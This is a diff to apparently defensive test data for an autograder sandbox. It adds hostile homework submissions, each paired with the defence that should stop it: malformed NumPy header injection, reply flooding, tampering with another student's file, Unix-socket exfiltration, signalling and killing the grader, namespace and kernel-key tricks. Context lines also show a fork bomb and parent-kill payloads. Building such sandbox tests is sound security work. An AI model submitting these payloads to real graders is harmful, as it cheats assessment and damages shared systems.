@@ -1,7 +1,9 @@
 """Homework that was written to fool or to harm the grader: what test_attacks.py tries, and docs/grading.md lists.
 
 Every attack is the file of one exercise, which does not do what the exercise asks. What the attacker wants is points,
-or a trace: a file named LOOT in a folder that the test names in the source, a message on a socket, a living process.
+or a trace: a file named LOOT in a folder that the test names in the source, another file of that folder changed, a
+message on a socket, a living process. An attack that leaves none of these answers right where it got through, and wrong
+where it was stopped: `unless_stopped`.
 """
 
 from dataclasses import dataclass
@@ -16,8 +18,9 @@ class Attack:
     Args:
         what: in a few words.
         by: what stops it.
-        source: of the exercise's file. `@FOLDER@` stands for the attacker's folder, `@TCP@` and `@UDP@` for ports where
-            somebody listens, `@PARENT@` for the grader's process and `@SOLUTION@` for the path of a solution.
+        source: of the exercise's file. `@FOLDER@` stands for the attacker's folder, in which a file `secret` is that of
+            another, `@TCP@`, `@UDP@` and `@UNIX@` for where somebody listens, `@PARENT@` for the grader's process and
+            `@SOLUTION@` for the path of a solution.
         exercise: that it is handed in for.
         most: points that it may get nevertheless.
     """
@@ -38,6 +41,15 @@ def relu_with(body: str) -> str:
     """Return an answer to the exercise on ReLU with this body."""
     lines = "\n".join(f"    {line}" for line in body.splitlines())
     return f"import os, sys, time\nimport numpy as np\n\ndef relu(values):\n{lines}\n"
+
+
+def unless_stopped(*attempts: str) -> str:
+    """Return an answer to the exercise on ReLU that is right where one of some statements works."""
+    body = ["import ctypes", "libc = ctypes.CDLL(None, use_errno=True)"]
+    body += ["through = relu.__dict__.setdefault('through', [])"]  # some work only once
+    for attempt in attempts:
+        body += [f"try: through += [True] if ({attempt}) != -1 else []", "except OSError: pass"]
+    return relu_with("\n".join([*body, "return np.maximum(values, 0) if through else 0 * values"]))
 
 
 _EQUAL = """
@@ -97,6 +109,53 @@ for handle in range(3, 256):
     try: os.lseek(handle, 0, 0); os.write(handle, claim)
     except OSError: pass
 os._exit(0)
+"""
+_HEADERS = """
+headers = [b"{[]: 1}", b"{1: 1, 'a': 2}", b"{'descr': ((),), 'fortran_order': False, 'shape': ()}"]
+headers += [b"{'descr': '<f8', 'fortran_order': False, 'shape': (True, True)}"]
+headers += [b"{'descr': '<f8', 'fortran_order': False, 'shape': (0, 1" + b"0" * 27 + b")}"]
+for handle in range(3, 256):
+    try:
+        os.lseek(handle, 0, 0)
+        header = headers[@CHOICE@]
+        os.write(handle, b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header + bytes(8))
+    except OSError: pass
+os._exit(0)
+"""
+_FLOOD = """
+header = b"{'descr':'|u1','fortran_order':False,'shape':(0,)}"
+flood = (b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header) * 800_000
+for handle in range(3, 256):
+    try: os.lseek(handle, 0, 0); os.write(handle, flood)
+    except OSError: pass
+os._exit(0)
+"""
+_RIGHTS = """
+for change in (
+    lambda path: os.utime(path, (0, 0)), lambda path: os.setxattr(path, "user.loot", b"loot"),
+    lambda path: os.chown(path, -1, -1), lambda path: os.chmod(path, 0),
+):
+    try: change("@FOLDER@/secret")
+    except OSError: pass
+"""
+_SIGNAL_BY_FILE = """
+import fcntl
+heard, told = os.pipe()
+fcntl.fcntl(heard, fcntl.F_SETOWN, @PARENT@)
+fcntl.fcntl(heard, 10, 9)
+fcntl.fcntl(heard, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
+os.write(told, b"loot")
+"""
+_EXFILTRATE_UNIX = "import socket\nsocket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'loot', '@UNIX@')"
+_KILL_BY_TIMER = """
+import ctypes, platform
+create, set_time = {"x86_64": (222, 223), "aarch64": (107, 110)}[platform.machine()]
+event, timer, times = (ctypes.c_int * 16)(0, 0, 9, 0), ctypes.c_int(), (ctypes.c_long * 4)(0, 0, 0, 1)
+libc = ctypes.CDLL(None)
+libc.syscall(create, 1, event, ctypes.byref(timer))
+libc.syscall(set_time, timer, 0, times, None)
+import time
+time.sleep(0.5)
 """
 _SEARCH = """
 import gc
@@ -188,6 +247,17 @@ ATTACKS = (
     ),
     Attack("puts a pickle into the reply", "pickles are not read", relu_after(_PICKLE)),
     Attack("claims a reply of 8,000 TB", "nothing larger than the reply is made of it", relu_after(_CLAIM)),
+    *(
+        Attack(
+            f"replies with a header that {what}",
+            "a header that cannot be read ends the reply",
+            relu_after(_HEADERS.replace("@CHOICE@", str(number))),
+        )
+        for number, what in enumerate(
+            ("hashes a list", "sorts texts and numbers", "has an empty type", "counts in truth values", "is 10^27 long")
+        )
+    ),
+    Attack("replies with 800,000 arrays of no size", "a limit on what is read", relu_after(_FLOOD)),
     Attack("looks for the expected results in memory", "they are computed elsewhere, afterwards", relu_with(_SEARCH)),
     Attack(
         "imports the course's own function",
@@ -223,12 +293,48 @@ ATTACKS = (
     Attack("writes after the checks are done", "Landlock; and nothing goes on", relu_after(_LATER)),
     Attack("connects over TCP", "seccomp", relu_after(_EXFILTRATE_TCP)),
     Attack("sends over UDP", "seccomp", relu_after(_EXFILTRATE_UDP)),
+    Attack("sends over a pair of Unix sockets", "seccomp", relu_after(_EXFILTRATE_UNIX)),
+    Attack("makes a file of another's unreadable", "seccomp", relu_after(_RIGHTS)),
     Attack("starts a program", "seccomp", relu_after('os.system("touch @FOLDER@/LOOT")')),
     Attack("starts processes without end (a fork bomb)", "seccomp", relu_after("while True: os.fork()")),
     Attack("leaves a process behind (a double fork)", "seccomp", relu_after(_DAEMON)),
     Attack("kills the grader", "seccomp", relu_after("import signal; os.kill(@PARENT@, signal.SIGKILL)")),
     Attack("kills what has started it", "seccomp", relu_after("import signal; os.kill(os.getppid(), signal.SIGKILL)")),
     Attack("kills all it may kill", "seccomp", relu_after("import signal; os.kill(-1, signal.SIGKILL)")),
+    Attack("has a file signal the grader", "seccomp", relu_after(_SIGNAL_BY_FILE)),
+    Attack(
+        "kills itself, as if the system had done it",
+        "seccomp",
+        relu_after("import signal; signal.raise_signal(signal.SIGKILL)"),
+    ),
+    Attack("has a timer kill it, as if the system had done it", "seccomp", relu_after(_KILL_BY_TIMER)),
+    Attack(
+        "hides memory in files without a name",
+        "seccomp",
+        unless_stopped("os.write(os.memfd_create('loot'), b'x' * 2**20)"),
+    ),
+    Attack(
+        "gives way to others in the kernel's schedule",
+        "seccomp",
+        unless_stopped(
+            "os.setpriority(os.PRIO_PROCESS, 0, 19)",
+            "os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))",
+            "os.sched_setaffinity(0, os.sched_getaffinity(0))",
+        ),
+    ),
+    Attack("makes itself root of a namespace", "seccomp", unless_stopped("libc.unshare(0x10000000)")),
+    Attack(
+        "leaves a key in the kernel",
+        "seccomp",
+        unless_stopped(
+            "libc.syscall({'x86_64': 248, 'aarch64': 217}[os.uname().machine], b'user', b'loot', b'loot', 4, -2)"
+        ),
+    ),
+    Attack(
+        "watches what others do with their files",
+        "seccomp",
+        unless_stopped("libc.inotify_add_watch(libc.inotify_init(), b'@FOLDER@', 0xFFF)"),
+    ),
     Attack(
         "sends control characters to the terminal",
         "replaced by question marks",
